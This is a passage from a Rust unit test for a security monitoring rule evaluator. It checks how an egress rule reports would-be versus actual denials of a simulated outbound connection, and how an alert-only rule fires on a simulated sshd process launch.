    let set = load(None, &[("a.yaml", ENFORCED)]).unwrap();
    let mut ev = Evaluator::new(set);
    let mut connect = web().connect("203.0.113.7", 443, Protocol::Tcp);
    let out = run(&mut ev, std::slice::from_ref(&connect));
    assert_eq!(rules_of(&out), ["egress"]);
    assert!(
        out[0].would_deny && out[0].action_taken.is_none(),
        "{out:?}"
    );
    assert!(
        out[0].summary.ends_with("(would be denied: not enforced)"),
        "{}",
        out[0].summary
    );
    if let EventBody::Network(n) = &mut connect.event.body {
        n.action = Some(crate::event::ActionTaken::Denied);
    }
    let out = run(&mut ev, &[connect]);
    assert!(!out[0].would_deny, "{out:?}");
    assert_eq!(out[0].action_taken, Some(crate::event::ActionTaken::Denied));
    assert!(out[0].summary.ends_with("(denied)"), "{}", out[0].summary);
    // A rule without an action is never marked.
    let out = run(&mut ev, &[web().exec("/usr/sbin/sshd", &["sshd"])]);
    assert_eq!(rules_of(&out), ["sshd"]);
    assert!(!out[0].would_deny && out[0].action == Action::Alert);
}
